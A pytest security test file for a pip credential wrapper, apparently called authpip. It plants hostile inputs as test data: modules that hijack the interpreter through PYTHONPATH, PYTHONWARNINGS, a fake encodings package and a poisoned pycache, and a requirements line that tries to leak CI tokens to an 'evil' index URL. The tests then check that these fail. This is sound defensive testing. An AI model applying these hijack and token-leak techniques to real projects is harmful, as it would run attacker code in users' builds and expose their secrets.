"""What variables that lead into a project, or come from its files, can do: audit 2, 3 and 13."""

from __future__ import annotations

import json
import subprocess
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from support.leaks.canary import Canary, new_canary
from support.machine import ordinary_user
from support.machine.ordinary_user import OrdinaryUser
from support.programs.authpip_cli import rule
from support.samples import packages
from support.servers.index_server import IndexServer, basic

pytestmark = pytest.mark.real

# Needs nothing that is not built into the interpreter: it may run before the module `os` does.
LOOK = """
import posix
def _told(word):
    descriptor = posix.open({log!r}, posix.O_WRONLY | posix.O_CREAT | posix.O_APPEND, 0o666)
    posix.write(descriptor, word)
    posix.close(descriptor)
if any(name.startswith(b"_AUTHPIP_HANDOFF") for name in posix.environ):
    _told(b"handoff ")
_told(b"run ")
"""
ENCODINGS = """
import _io
__path__.append({real!r})
exec(compile(_io.open_code({real!r} + "/__init__.py").read(), "encodings", "exec"))
"""


@pytest.fixture
def user(environment: dict[str, str]) -> OrdinaryUser:
    return ordinary_user.make(environment)


@pytest.fixture
def server(serve: Callable[..., IndexServer]) -> IndexServer:
    """Without TLS: the certificates of the tests are not readable for that user."""
    return serve(tls=False)


@pytest.fixture
def canary() -> Canary:
    return new_canary()


def configure(user: OrdinaryUser, text: str) -> None:
    """The user's own config.toml."""
    config = Path(user.environ["XDG_CONFIG_HOME"], "authpip", "config.toml")
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(textwrap.dedent(text))
    config.chmod(0o600)


def outcome(done: subprocess.CompletedProcess[str]) -> str:
    return done.stdout + done.stderr


@pytest.mark.parametrize("planted", ["cat", "encodings", "json"])
def test_no_code_of_a_project_runs_while_the_handoff_is_there(
    user: OrdinaryUser, server: IndexServer, wheel: Any, canary: Canary, planted: str
) -> None:
    """P6, A21, audit 13: with "." on PYTHONPATH, a module that PYTHONWARNINGS names, a package `encodings`, or a
    compiled file below PYTHONPYCACHEPREFIX is not loaded before the handoff is gone. With handoff.START_UP empty all
    three ran with the variable in their environment; at e46b6fa the first one did, and the others were not tried."""
    log = user.project / "log"
    look = LOOK.format(log=str(log))
    (user.project / "cat.py").write_text(look + "class Cat(Warning): pass\n")
    if planted == "encodings":
        question = [user.venv.python, "-c", "import encodings; print(encodings.__path__[0])"]
        real = subprocess.run(question, capture_output=True, text=True, check=True).stdout.strip()
        (user.project / "encodings").mkdir()
        (user.project / "encodings" / "__init__.py").write_text(look + ENCODINGS.format(real=real))
    if planted == "json":
        compile_it = (
            "import json, py_compile, importlib.util as u, sys; sys.pycache_prefix = sys.argv[1]; "
            "c = u.cache_from_source(json.__file__); s = sys.argv[2] + open(json.__file__).read(); "
            "open(sys.argv[1] + '.py', 'w').write(s); "
            "mode = py_compile.PycInvalidationMode.UNCHECKED_HASH; "
            "py_compile.compile(sys.argv[1] + '.py', c, invalidation_mode=mode)"
        )
        subprocess.run([user.venv.python, "-I", "-c", compile_it, str(user.project / "pyc"), look], check=True)
    variables = {
        "cat": {"PYTHONPATH": ".", "PYTHONWARNINGS": "ignore::cat.Cat"},
        "encodings": {"PYTHONPATH": "/nonexistent::."},
        "json": {"PYTHONPYCACHEPREFIX": "pyc"},
    }
    server.add("/team/simple", [wheel("corp-thing")], username="alice", password=canary.secret)
    url = server.url("/team/simple/")
    environ = server.environ | rule(url, "alice", canary.secret) | variables[planted]
    done = user.pip("install", "--no-input", "-i", url, "corp-thing", **environ)
    assert done.returncode == 0, outcome(done)
    assert set(server.statuses()) == {200}
    told = log.read_text() if log.exists() else ""
    assert "handoff" not in told
    assert ("run" in told) == (planted == "cat")  # given back, as the interpreter would have treated it


def test_authpip_imports_nothing_of_the_working_directory(user: OrdinaryUser) -> None:
    """A21, audit 13: with "." on PYTHONPATH, `python -m authpip` and the command `authpip` load no `tomllib` of the
    project; at e46b6fa a planted json replaced the one of Python."""
    log = user.project / "log"
    for name in ("json", "tomllib", "subprocess", "argparse", "urllib"):
        (user.project / f"{name}.py").write_text(f"open({str(log)!r}, 'a').write({name!r})\nraise SystemExit(9)\n")
    for argv in ([user.venv.python, "-m", "authpip"], [f"{user.venv.scripts}/authpip"]):
        done = user.run([*argv, "auth", "--version"], PYTHONPATH=".")
        assert (done.returncode, log.exists()) == (0, False), outcome(done)


@pytest.mark.parametrize("variable", ["CORP_TOKEN", "CI_JOB_TOKEN"])
def test_a_rules_variable_is_not_put_into_a_hostile_url(
    user: OrdinaryUser, serve: Callable[..., IndexServer], canary: Canary, variable: str
) -> None:
    """P1, A15, audit 2: a repository's `--index-url http://evil/${CORP_TOKEN}/simple/` sends evil no secret; at e46b6fa
    it asked for GET /SECRET/simple/. The control is a variable that no rule and no provider reads."""
    good, evil = serve(tls=False), serve(tls=False)
    configure(user, TOKEN_RULE.format(url=good.url("/team/simple/")))
    requirements = user.project / "requirements.txt"
    control = new_canary()
    requirements.write_text(
        f"--index-url {evil.url()}${{{variable}}}/simple/\n--extra-index-url {evil.url()}${{CONTROL}}/simple/\nthing\n"
    )
    environ = good.environ | {variable: canary.secret, "CONTROL": "expanded"}
    done = user.authpip("install", "--no-input", "-r", "requirements.txt", **environ)
    assert control.secret not in outcome(done)
    assert evil.seen("/expanded/simple/thing/")
    assert canary.find_in(repr([(seen, seen.headers) for seen in evil.requests])) == []


TOKEN_RULE = """
    [[index]]
    name = "corp"
    url = "{url}"
    username = "alice"
    provider = "token"
    [index.token]
    variable = "CORP_TOKEN"
"""


def test_an_index_that_only_a_remote_file_names(
    user: OrdinaryUser, server: IndexServer, text_file: Any, canary: Canary
) -> None:
    """P4, audit 2: the index is seen by pip alone, and gets the rule's token; the build of the same run finds neither
    that variable nor CI_JOB_TOKEN, which it did at e46b6fa."""
    url, report = server.url("/team/simple/"), user.base / "spy" / "report.jsonl"
    report.parent.mkdir()
    configure(user, TOKEN_RULE.format(url=url))
    source = packages.spy_sdist(user.base, "spied-thing", report)
    server.add("/team/simple", [source], username="alice", password=canary.secret)
    server.add("/open", [text_file("requirements.txt", f"--index-url {url}\nspied-thing\n")])
    environ = server.environ | {"CORP_TOKEN": canary.secret, "CI_JOB_TOKEN": canary.secret, "CONTROL": "seen"}
    remote = server.url("/open/requirements.txt")
    done = user.authpip("install", "--no-input", "-r", remote, **environ)
    assert done.returncode == 0, outcome(done)
    assert {seen.authorization for seen in server.seen("/team")} == {basic("alice", canary.secret)}
    looks = [json.loads(line) for line in report.read_text().splitlines()]
    assert {look["environ"].get("CONTROL") for look in looks} == {"seen"}
    assert [hit for look in looks for hit in canary.find_in_tree(look["environ"])] == []


def test_an_env_file_is_the_tools_and_not_authpips(user: OrdinaryUser, server: IndexServer, canary: Canary) -> None:
    """P6, audit 3: `auth exec --env-file .env -- pip install`: what the file says of clouds, and a variable that a rule
    passes on, do not reach the rule's program; pip and what it builds see them, but for that variable. The control is
    tool_variables.own that leaves nothing out, where the program gets all; e46b6fa ran CLOUDSDK_PYTHON of the file."""
    url, report, log = server.url("/team/simple/"), user.base / "spy" / "report.jsonl", user.base / "log.json"
    report.parent.mkdir()
    program = user.base / "tools" / "secret-of-corp"
    program.parent.mkdir()
    program.write_text(
        f"#!{user.venv.python} -I\nimport json, os\njson.dump(dict(os.environ), open({str(log)!r}, 'w'))\n"
        f"print({canary.secret!r})\n"
    )
    program.chmod(0o755)
    configure(
        user,
        f'[[index]]\nname = "corp"\nurl = "{url}"\nusername = "alice"\n'
        f'command = {{ run = "{program}", environment = "OF_THE_FILE" }}\n',
    )
    source = packages.spy_sdist(user.base, "spied-thing", report)
    server.add("/team/simple", [source], username="alice", password=canary.secret)
    of_file = {"AWS_PROFILE": "evil", "GOOGLE_CLOUD_PROJECT": "evil", "OF_THE_FILE": "evil"}
    (user.project / ".env").write_text(
        "".join(f"{name}={value}\n" for name, value in of_file.items()) + f"PIP_INDEX_URL={url}\n"
    )
    environ = user.venv.activated(user.environ) | server.environ
    done = user.authpip("auth", "exec", "--env-file", ".env", "--", "sh", "-c", "pip install spied-thing", **environ)
    assert done.returncode == 0, outcome(done)
    helper = json.loads(log.read_text())
    assert [name for name in of_file if helper.get(name) == of_file[name]] == []
    looks = [json.loads(line) for line in report.read_text().splitlines()]
    built = looks[0]["environ"]
    assert {name for name in of_file if built.get(name) == "evil"} == {"AWS_PROFILE", "GOOGLE_CLOUD_PROJECT"}
    assert "_AUTHPIP_TOOL_VARIABLES" not in built


def test_a_deleted_working_directory(user: OrdinaryUser) -> None:
    """audit 14: in a directory that is no longer there, `auth explain` and `auth exec` work, and an install says what
    pip says there; at e46b6fa there was an internal error FileNotFoundError."""
    gone, scripts = user.project / "gone", user.venv.scripts

    def run(words: str) -> subprocess.CompletedProcess[str]:
        return user.run(["sh", "-c", f"mkdir {gone}; cd {gone}; rmdir {gone}; {scripts}/{words}"])

    for words in ("auth explain install pip", "auth exec -- true"):
        done = run(f"authpip {words}")
        assert done.returncode == 0, outcome(done)
    alone = run("pip install --no-index pip")
    assert alone.stderr == run("authpip install --no-index pip").stderr
